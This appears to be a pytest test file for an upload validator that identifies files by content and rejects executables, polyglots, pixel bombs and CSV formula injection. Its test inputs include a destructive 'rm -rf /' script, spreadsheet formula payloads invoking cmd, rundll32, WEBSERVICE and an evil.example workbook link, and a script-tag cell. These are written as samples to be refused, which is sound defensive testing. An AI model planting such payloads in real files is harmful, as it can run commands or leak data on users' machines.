"""What a file is, by what is in it."""

import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import settings as trying
from hypothesis import strategies as st

from debates.exchange.files import NotKept, judged
from debates.models import FileKind
from debates.models.file import LARGEST
from tests.judging import kind_of, refusal_of
from tests.specimen_files import CSV, HTML, PDF, SVG, a_huge_png, a_picture, a_zip

ROOT = Path(__file__).parent.parent


def test_each_kind_is_known_by_its_content() -> None:
    found = {kind_of(one) for one in (PDF, CSV, a_picture("PNG"), a_picture("JPEG"))}
    assert found == set(FileKind.values)


@pytest.mark.parametrize(
    ("content", "code", "word"),
    [
        (b"", "empty", "empty"),
        (PDF + b" " * LARGEST, "too_large", "10 MB"),
        (a_zip(), "wrong_kind", "ZIP archive"),
        (SVG, "wrong_kind", "SVG picture"),
        (b'<?xml version="1.0"?>\n' + SVG, "wrong_kind", "SVG picture"),
        (b"\xef\xbb\xbf \n" + HTML, "wrong_kind", "web page"),
        (a_picture("GIF"), "wrong_kind", "GIF picture"),
        (a_picture("BMP"), "wrong_kind", "BMP picture"),
        (a_picture("TIFF"), "wrong_kind", "TIFF picture"),
        (a_picture("WEBP"), "wrong_kind", "WebP"),
        (b"MZ\x90\0" + bytes(99), "wrong_kind", "program for Windows"),
        (b"\x7fELF" + bytes(99), "wrong_kind", "program for Linux"),
        (b"#!/bin/sh\nrm -rf /\n", "wrong_kind", "script"),
        (b"\0\0\0 ftypheic" + bytes(99), "wrong_kind", "HEIC"),
        (CSV.decode().encode("utf-16"), "wrong_kind", "UTF-16"),
        (b"a,b\n\xff,1\n", "wrong_kind", "UTF-8"),
        (b"a,b\n\0,1\n", "wrong_kind", "CSV table in UTF-8"),
        (b"a,b\n\x1b[2J,1\n", "wrong_kind", "CSV table in UTF-8"),
        (b"only words\nin lines\n", "no_table", "columns"),
        (b"a,b\n1,2,3\n", "no_table", "columns"),
        (b'a,b\n"open,2\n', "no_table", "columns"),
        (b"a,b\n1,<script>alert(1)</script>\n", "markup", "web page"),
        (b"a,b\n1,<!DOCTYPE html>\n", "markup", "web page"),
        (b"a,b\n1,=1+1\n", "formula", "formula"),
        (b"a,b\n1,+cmd|' /C calc'!A0\n", "formula", "formula"),
        (PDF[:60], "broken", "cut off"),
        (b"%PDF-" + bytes(99), "broken", "none"),
        (PDF + b"tail", "broken", "after its end"),
        (PDF + HTML, "two_in_one", "web page"),
        (PDF + a_zip(), "two_in_one", "ZIP archive"),
        (PDF[:9] + b"%" + HTML + PDF[9:], "two_in_one", "web page"),
        (PDF[:9] + b"Rar!\x1a\x07\0" + PDF[9:], "two_in_one", "RAR archive"),
        (a_picture("JPEG")[:400], "broken", "damaged"),
        (a_picture("PNG")[:60], "broken", "damaged"),
        (b"\x89PNG\r\n\x1a\n" + HTML, "broken", "damaged"),
        (a_huge_png(5_001, 5_000), "too_many_pixels", "25 million"),
    ],
)
def test_what_is_not_kept_is_told_what_it_is(content: bytes, code: str, word: str) -> None:
    told, why = refusal_of(content)
    assert (told, word in why) == (code, True), why


@pytest.mark.parametrize(
    "cell",
    [
        "-2+3+cmd|' /C calc'!A0",
        "+1+HYPERLINK(A1)",
        "-1&WEBSERVICE (A1)",
        "+(HYPERLINK(A1))",
        "@A1*SUM(1)",
        "-LOG10(5)",
        "+_xlfn.WEBSERVICE(A1)",
        "+'//evil.example/[x.xls]S'!A1",
        "+1+[x.xls]S!A1",
        " " * 40 + "=1+1",
        "\n=1+1",
        "\t\t=A1",
        "＝1+1",
        "＋cmd|x!A0",
        "+1+rundll32|'x'!A0",
    ],
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_in_whichever_disguise(cell: str, delimiter: str) -> None:
    table = f'a{delimiter}b\n1{delimiter}"{cell}"\n'.encode()
    assert refusal_of(table)[0] == "formula"


@pytest.mark.parametrize(
    "cell",
    [
        *("-5", "+49 30 1234", "-5 (estimated)", "-(12)", "-1e-5", "@handle", "-", "- 1|2"),
        *("- as told (see p. 2)", "+4 % (2019) | 3", "x-cmd(1)", "a @ b(c)", "-3 [1] of 4!"),
    ],
)
def test_numbers_and_notes_with_a_sign_are_no_formulas(cell: str) -> None:
    table = f'a,b\n1,"{cell}"\n'.encode()
    assert judged(table, largest=LARGEST).content == table


@pytest.mark.parametrize("piece", [" ", "\t", "-a ", "-\t", "|", "a|", "]a", "=", "-A.", "\n"])
def test_looking_for_formulas_takes_no_square_of_time(piece: str) -> None:
    began = time.monotonic()
    with suppress(NotKept):
        judged(
            ("a,b\n" + f'1,"-{piece * (90_000 // len(piece))}"\n' * 20).encode(), largest=LARGEST
        )
    assert time.monotonic() - began < 3


@pytest.mark.parametrize(
    "table", [CSV, b"\xef\xbb\xbfa;b\n1,5;2\n", b"a\tb\n-1\t+2\n\n", b'a,b\n"1, =x",2\n']
)
def test_tables_are_kept_as_they_are(table: bytes) -> None:
    assert judged(table, largest=LARGEST).content == table


MEASURED = """
import re, resource, sys
from pathlib import Path
from django.conf import settings
settings.configure()
import django
django.setup()
from debates.exchange.files import NotKept, judged
def peak():  # The resource usage of a process begins with that of the one that started it.
    return int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])

sent = sys.stdin.buffer.read()
before = peak()
try:
    word = judged(sent, largest=10**8).kind
except NotKept as refused:
    word = refused.code
grown = peak() - before
decoder = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(word, grown, decoder, "PIL" in sys.modules)
"""


@pytest.mark.parametrize(
    ("sent", "word", "most"),
    [
        (a_huge_png(), "too_many_pixels", 60_000),
        (a_picture("PNG", (6_000, 4_000)), "png", 400_000),
        (a_picture("JPEG", (6_000, 4_000), progressive=True), "jpeg", 400_000),
        (b"year,riders\n" * 800_000, "csv", 60_000),
        (b"," * 9_000_000, "no_table", 60_000),
        (b'"\n",' * 2_000_000, "no_table", 60_000),
    ],
    ids=[
        "30,000 x 30,000",
        "24 million in a PNG",
        "24 million in a JPEG",
        "800,000 rows",
        "commas",
        "open rows",
    ],
)
def test_a_picture_takes_no_memory_of_whoever_judges_it(sent: bytes, word: str, most: int) -> None:
    """In kilobytes: of this process next to nothing, and of the decoder's no more than `most`."""
    ran = subprocess.run(
        [sys.executable, "-c", MEASURED], input=sent, capture_output=True, check=True, cwd=ROOT
    )
    found, grown, decoder, has_loaded = ran.stdout.decode().split()
    assert (found, has_loaded) == (word, "False")
    assert int(grown) < 24_000, "a line as long as the file may stand in memory twice, no more"
    assert int(decoder) < most


@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
@example(b"%PDF-1.4")
@example(b'a,b\n"')
@trying(max_examples=300)
def test_any_bytes_are_judged_or_refused(content: bytes) -> None:
    try:
        found = judged(content, largest=LARGEST)
    except NotKept:
        return
    assert judged(found.content, largest=LARGEST) == found
